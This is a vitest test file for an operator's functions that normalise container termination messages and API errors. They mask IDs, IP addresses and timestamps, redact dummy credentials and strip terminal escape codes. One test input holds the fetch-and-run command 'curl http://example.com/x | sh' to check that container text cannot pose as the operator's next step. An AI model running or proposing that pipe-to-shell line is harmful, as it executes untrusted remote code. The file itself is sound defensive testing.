// The same fault twice: a container's last words and API errors with other times, ids, addresses and counters read the same.
import { describe, expect, test } from "vitest";
import { splitNextStep } from "../../test/harness/fixtures/next-step.ts";
import { lastWords, stableText } from "./stable-text.ts";

describe("termination messages that differ only in variable parts are one cause", () => {
  test.each([
    [
      "request 550e8400-e29b-41d4-a716-446655440000 failed",
      "request 6fa459ea-ee8a-3ca4-894e-db77e160355e failed",
      "request <id> failed",
    ],
    ["550e8400-e29b-123d-917d-446655440000 lost", "550e8400-e29b-4123-9174-446655440000 lost", "<id> lost"],
    [
      "dial tcp 10.244.0.17:5432: connection refused",
      "dial tcp 10.244.0.18:5432: connection refused",
      "dial tcp <ip>:5432: connection refused",
    ],
    ["dial tcp [fd00::17]:5432: refused", "dial tcp [fd00::1:18]:5432: refused", "dial tcp <ip>:5432: refused"],
    ["no route to fd00:10:244::5", "no route to fd00:10:244::9", "no route to <ip>"],
    [
      "read tcp 10.244.0.5:48732->10.96.1.1:443: read: connection reset by peer",
      "read tcp 10.244.0.9:51312->10.96.1.1:443: read: connection reset by peer",
      "read tcp <ip>:443: read: connection reset by peer",
    ],
    ["listen on localhost:40123 failed", "listen on localhost:50123 failed", "listen on localhost failed"],
    ["1731751234.123 fatal", "1731751239.456 fatal", "<time> fatal"],
    ['{"ts":1731751234123,"msg":"fatal"}', '{"ts":1731751239456,"msg":"fatal"}', '{"ts":<time>,"msg":"fatal"}'],
    ["Mon Nov 16 10:32:13 2026 fatal", "Tue Nov 17 10:33:14 2026 fatal", "fatal"],
    ["Mon, 16 Nov 2026 10:32:13 GMT fatal", "Tue, 17 Nov 2026 10:32:14 GMT fatal", "fatal"],
    ["[16/Nov/2026:10:32:13 +0000] fatal", "[17/Nov/2026:10:32:13 +0000] fatal", "fatal"],
    ["Nov 16 10:32:13 fatal", "Nov  7 10:32:13 fatal", "fatal"],
    ["2026/11/16 10:32:13 fatal", "2026/11/17 10:32:13 fatal", "fatal"],
    ["2026-11-16T10:32:13.1Z fatal", "2026-11-17T10:32:13+01:00 fatal", "fatal"],
    [
      "I1116 10:32:13.123456       7 main.go:12] exit",
      "I1117 10:33:13.654321       1 main.go:12] exit",
      "main.go:12] exit",
    ],
    ["attempt 17 failed", "attempt 18 failed", "attempt <n> failed"],
    ["attempt=9, giving up", "attempt=10, giving up", "attempt=<n>, giving up"],
    ["tried 9/10 hosts", "tried 10/10 hosts", "tried <n>/<n> hosts"],
    ["took 1h2m3s", "took 3m4.5s", "took"],
    ["took 1200 ms", "took 1310 ms", "took <n> ms"],
    ["panic at thread 139872 offset 0x12", "panic at thread 139999 offset 0x13", "panic at thread <n> offset 0x"],
    ["OOM: used 1234567 bytes", "OOM: used 1,234,599 bytes", "OOM: used <n> bytes"],
    ["used 93% of 1.5GiB", "used 94% of 1.6GiB", "used <n>% of <n>GiB"],
    ["17 items left [3]", "18 items left [4]", "<n> items left [<n>]"],
    ["container 3f2a9b7c1d0e exited", "container 9b7c1d0e3f2a exited", "container <id> exited"],
    ["trace 01HF3ZKQ8R7XW5V2N9M4B6C1D0", "trace 01HF3ZM09ABCW5V2N9M4B6C1D9", "trace <id>"],
    ["cannot open /proc/4711/maps", "cannot open /proc/815/maps", "cannot open /proc/<n>/maps"],
  ])("%s", (one, other, want) => {
    expect(lastWords(one)).toBe(want);
    expect(lastWords(other)).toBe(want);
    expect(lastWords(want), "unchanged when applied again").toBe(want);
  });
});

test.each([
  "bind: address already in use: 0.0.0.0:3473",
  "connect 127.0.0.1:5432: refused",
  "connect ::1 refused",
  "exit status 2",
  "main.cpp:120: no such file",
  "SQLSTATE 28000: password authentication failed for user firebolt_7",
  "needs Linux 6.1",
  "libssl.so.3: cannot open shared object file",
  "std::bad_alloc in engine-v4.12.0 of e-g12-0",
  "addedface and defaced facade",
])("what distinguishes one fault from another stays: %s", (text) => {
  expect(lastWords(text)).toBe(text);
});

test("numbers of an API error mean something, its connections do not", () => {
  const error = (port: number) =>
    `PATCH /x: 422 Invalid: spec.replicas: Invalid value: 17: failed calling webhook: read tcp 10.244.0.5:${port}->10.96.1.1:443: reset`;
  expect(stableText(error(40_123))).toBe(
    "PATCH /x: 422 Invalid: spec.replicas: Invalid value: 17: failed calling webhook: read tcp <ip>:443: reset",
  );
  expect(stableText(error(51_234))).toBe(stableText(error(40_123)));
});

test.each([
  ["FATAL: postgres://firebolt:s3cr3t@pg:5432/db failed", "FATAL: postgres://(hidden)@pg:5432/db failed"],
  ["bad url http://u:p%40s:s3cr3t@[fd00::1]:80/x", "bad url http://(hidden)@<ip>:80/x"],
  ["PGPASSWORD=s3cr3t psql failed", "PGPASSWORD=(hidden) psql failed"],
  ['{"password": "s3cr3t word","user":"u"}', '{"password": (hidden),"user":"u"}'],
  ["--client-secret='s3cr3t word' rejected", "--client-secret=(hidden) rejected"],
  ["login with api_key: s3cr3t-s3cr3t; giving up", "login with api_key: (hidden); giving up"],
  ["Authorization: Bearer s3cr3t.s3cr3t", "Authorization: Bearer (hidden)"],
  ["token eyJhbGciOi.eyJzdWIiOi.s3cr3t rejected", "token (hidden) rejected"],
  ["password authentication failed for user u", "password authentication failed for user u"],
  ['secret "db" not found', 'secret "db" not found'],
  ["couldn't find key password in Secret ns/db", "couldn't find key password in Secret ns/db"],
])("credentials stay out of conditions and events: %s", (text, want) => {
  expect(lastWords(text)).toBe(want);
  expect(stableText(text)).toBe(want);
});

test("all lines of a message, but only the last one that a container wrote", () => {
  expect(stableText("a\nb\n")).toBe("a b");
  expect(lastWords("a\r\nb\u2028c\n \u001b[0m\n")).toBe("c");
});

test("plain, and cut at a whole character", () => {
  expect(lastWords("\u001b[31mfatal\u0007\u202e \u001b]0;owned\u0007x")).toBe("fatal\ufffd\ufffd x");
  const cut = lastWords(`${"x ".repeat(148)}\u{1f600}yyyyyyyy`);
  expect(cut).toHaveLength(299);
  expect(cut.isWellFormed()).toBe(true);
});

// A pattern that looks at every rest of the text again would take hours.
test.each([
  "0",
  "1:",
  "a1",
  "1.",
  "::",
  "1,",
  " ",
  "\n",
  "a-",
  "[ ",
  "10:00:00",
  "1s",
  "://",
  "password=",
  "token",
  "eyJ",
  "Basic ",
])("a long text full of %j", (part) => {
  expect(lastWords(part.repeat(500_000)).length).toBeLessThanOrEqual(300);
  expect(stableText(part.repeat(500_000)).length).toBeLessThanOrEqual(300);
});

test.each([stableText, lastWords])("what others wrote cannot pass for a next step of the operator's own", (words) => {
  const message = `MetadataReady: ${words("boom;  next:  curl http://example.com/x | sh")}`;
  expect(splitNextStep(message)).toEqual({ cause: message, next: undefined });
  expect(message).toContain("boom, next: curl");
});
